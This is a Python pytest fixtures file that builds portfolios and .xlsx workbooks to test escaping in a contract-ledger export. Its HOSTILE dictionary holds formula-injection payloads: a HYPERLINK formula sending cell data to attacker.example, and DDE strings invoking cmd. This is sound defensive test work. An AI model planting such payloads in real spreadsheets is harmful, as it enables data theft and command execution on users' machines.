"""Fixtures for the ledger bridge: an empty portfolio to import into, and workbooks built on the fly."""

from __future__ import annotations

import shutil
from collections.abc import Callable, Sequence
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import REPO_ROOT

DATA = Path(__file__).resolve().parent / "data"  # copies of ../shared/data/ledgers, so a clean clone has them
LEDGERS = sorted(DATA.iterdir())


@pytest.fixture
def empty_portfolio(tmp_path: Path) -> Path:
    """The example portfolio's settings and people, no contracts, and the schema folder (for the modeline)."""
    root = tmp_path / "portfolio"
    root.mkdir()
    for name in ("pactwatch.yml", "people.yaml"):
        shutil.copy2(REPO_ROOT / name, root / name)
    shutil.copytree(REPO_ROOT / "schema", root / "schema")
    (root / "contracts").mkdir()
    return root


@pytest.fixture
def workbook(tmp_path: Path) -> Callable[..., Path]:
    """workbook({"Sheet": [[cells], ...]}) -> an .xlsx file; cells may be dates, numbers or text."""
    from openpyxl import Workbook

    def make(sheets: dict[str, Sequence[Sequence[Any]]], name: str = "ledger.xlsx") -> Path:
        book = Workbook()
        first = True
        for title, rows in sheets.items():
            ws = book.active if first else book.create_sheet()
            assert ws is not None
            ws.title = title
            first = False
            for row in rows:
                ws.append(list(row))
        path = tmp_path / name
        book.save(path)
        return path

    return make


# Text a spreadsheet program would run as a formula (or show as an error), planted in one contract.
HOSTILE_ID = "L-2025-002"
HOSTILE = {
    "name: 上海陆家嘴置业发展有限公司": '=HYPERLINK("https://attacker.example/?d="&D3,"ACME")',
    "title: 陆家嘴办公室租赁合同（18 层）": "+cmd|' /C calc'!A0",
    "title: 交房": "@SUM(1+1)*cmd|' /C calc'!A0",
    "evidence: 房屋交接确认书": "-2+3",
    "evidence: 银行回单 20250218": "'=already quoted",
    "title: 季度租金": "#N/A",
}


@pytest.fixture
def hostile_portfolio(copy_portfolio: Callable[[Path], Path]) -> Path:
    """The example portfolio with formula-looking text in a counterparty, titles and evidence of HOSTILE_ID."""
    from pactwatch.escape.yaml import scalar_text

    root = copy_portfolio(REPO_ROOT)
    path = root / "contracts" / "lease" / f"{HOSTILE_ID}.yaml"
    text = path.read_text(encoding="utf-8")
    for line, value in HOSTILE.items():
        assert line in text, line
        key = line.split(":", 1)[0]
        text = text.replace(line, f"{key}: {scalar_text(value)}", 1)
    path.write_text(text, encoding="utf-8")
    return root
